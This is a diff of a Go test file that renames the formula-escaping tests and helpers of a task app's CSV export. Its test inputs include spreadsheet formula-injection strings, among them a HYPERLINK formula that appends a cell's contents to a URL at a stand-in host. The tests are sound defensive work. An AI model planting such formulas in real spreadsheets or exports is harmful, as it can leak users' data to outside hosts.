@@ -10,16 +10,16 @@ import (
 	"github.com/taskwire/taskwire/pkg/events"
 )
 
-// textsOfFormulas are what a spreadsheet would run, and what only looks like it.
-var textsOfFormulas = []string{
+// formulaTexts has formulas, and texts that look like formulas.
+var formulaTexts = []string{
 	"=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "＝1", "＋1", "－1", "＠x", "'=1", "''=1", "'", "''", "'tis", "''tis", "'+", "=", "-- \"q\", x",
 	"a=1", " =1", "1-1", "",
 }
 
-func TestNoCellOfTheCSVIsAFormulaAndEveryTextComesBack(t *testing.T) {
-	descriptions := append([]string{"\t=1", "\n=1", "'\t"}, textsOfFormulas...)
+func TestCSVHasNoFormulasAndLosesNoText(t *testing.T) {
+	descriptions := append([]string{"\t=1", "\n=1", "'\t"}, formulaTexts...)
 	for i, description := range descriptions {
-		title := strings.TrimSpace(textsOfFormulas[i%len(textsOfFormulas)])
+		title := strings.TrimSpace(formulaTexts[i%len(formulaTexts)])
 		if title == "" {
 			title = "x"
 		}
@@ -37,7 +37,7 @@ func TestNoCellOfTheCSVIsAFormulaAndEveryTextComesBack(t *testing.T) {
 		}
 		for _, cell := range records[1] {
 			if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
-				t.Errorf("title %q, description %q: the cell %q is a formula to a spreadsheet", title, description, cell)
+				t.Errorf("title %q, description %q: the cell %q is a formula in a spreadsheet", title, description, cell)
 			}
 		}
 		r, err := NewReader(CSV, bytes.NewReader(file.Bytes()), options)
@@ -49,22 +49,22 @@ func TestNoCellOfTheCSVIsAFormulaAndEveryTextComesBack(t *testing.T) {
 			t.Fatalf("%q: %v", description, err)
 		}
 		if got, want := titleAndDescription(t, item), [2]string{title, description}; got != want {
-			t.Errorf("there and back: got %q, want %q", got, want)
+			t.Errorf("after a round trip: got %q, want %q", got, want)
 		}
 	}
 }
 
-func TestCarriageReturnsAreDefusedToo(t *testing.T) {
-	// A CSV reader makes \r\n one \n, so this one is not in the file of the test above.
+func TestCarriageReturnsAreEscaped(t *testing.T) {
+	// csv.Reader converts \r\n to \n, so the test above cannot cover this.
 	for _, text := range []string{"\r=1", "\r", "'\r"} {
-		if got := defused(text); got != "'"+text || restored(got) != text {
-			t.Errorf("defused(%q): got %q, and back %q", text, got, restored(got))
+		if got := escapeFormula(text); got != "'"+text || unescapeFormula(got) != text {
+			t.Errorf("escapeFormula(%q): got %q, and back %q", text, got, unescapeFormula(got))
 		}
 	}
 }
 
-// TestAnApostropheOfAnotherProgramStays: only our own files are defused.
-func TestAnApostropheOfAnotherProgramStays(t *testing.T) {
+// TestApostropheOfOtherProgramsIsKept checks that only Taskwire's own files are unescaped.
+func TestApostropheOfOtherProgramsIsKept(t *testing.T) {
 	r, err := NewReader(CSV, strings.NewReader("TYPE,CONTENT,DESCRIPTION\ntask,'=x,'-y\n"), options)
 	if err != nil {
 		t.Fatal(err)
@@ -88,14 +88,14 @@ func titleAndDescription(t *testing.T, item Item) (out [2]string) {
 	return out
 }
 
-func FuzzDefused(f *testing.F) {
-	for _, text := range textsOfFormulas {
+func FuzzEscapeFormula(f *testing.F) {
+	for _, text := range formulaTexts {
 		f.Add(text)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
-		got := defused(text)
-		if restored(got) != text || strings.IndexAny(got, formulas) == 0 {
-			t.Errorf("defused(%q): got %q, and back %q", text, got, restored(got))
+		got := escapeFormula(text)
+		if unescapeFormula(got) != text || strings.IndexAny(got, formulas) == 0 {
+			t.Errorf("escapeFormula(%q): got %q, and back %q", text, got, unescapeFormula(got))
 		}
 	})
 }
